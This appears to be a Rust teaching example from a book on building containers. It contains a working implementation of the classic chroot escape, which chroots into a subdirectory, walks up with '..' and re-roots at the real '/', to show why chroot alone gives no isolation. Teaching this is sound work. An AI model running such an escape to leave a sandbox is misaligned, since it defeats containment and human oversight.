//! The classic chroot escape: why chroot alone is not isolation.
//!
//! A chroot is a property of a process, not a wall: it changes where `/`
//! resolves, and `..` stops only *at* that root. A process that keeps
//! `CAP_SYS_CHROOT` can chroot into a subdirectory while its working
//! directory stays above it; from there, `..` is never the root, so walking
//! up reaches the real `/`, and `chroot(".")` makes that the root again.
//! Chapter 2's mount namespace and `pivot_root` close this: there is no
//! host filesystem left above the container's root to walk up to.

use std::os::unix::fs::MetadataExt;

use nix::unistd::{chdir, chroot};

/// Identity of a directory: (device, inode). Equal identities, same directory.
pub fn dir_identity(path: &str) -> std::io::Result<(u64, u64)> {
    let meta = std::fs::metadata(path)?;
    Ok((meta.dev(), meta.ino()))
}

// ANCHOR: break_out
/// Leaves the current chroot (if the process may call `chroot`).
pub fn break_out() -> nix::Result<()> {
    let hole = format!("/.berth-escape-{}", std::process::id());
    std::fs::create_dir(&hole).map_err(io_to_nix)?;
    // 1. A new root *below* us; the working directory stays where it was.
    let entered = chroot(hole.as_str());
    // The directory is no longer needed: remove it relative to our cwd.
    let _ = std::fs::remove_dir(&hole[1..]);
    entered?;
    // 2. Walk up. `..` of the real `/` is itself, so stop there.
    for _ in 0..256 {
        if dir_identity(".").map_err(io_to_nix)? == dir_identity("..").map_err(io_to_nix)? {
            break;
        }
        chdir("..")?;
    }
    // 3. Make where we stand the root.
    chroot(".")
}
// ANCHOR_END: break_out

fn io_to_nix(e: std::io::Error) -> nix::Error {
    nix::Error::from_raw(e.raw_os_error().unwrap_or(libc::EIO))
}
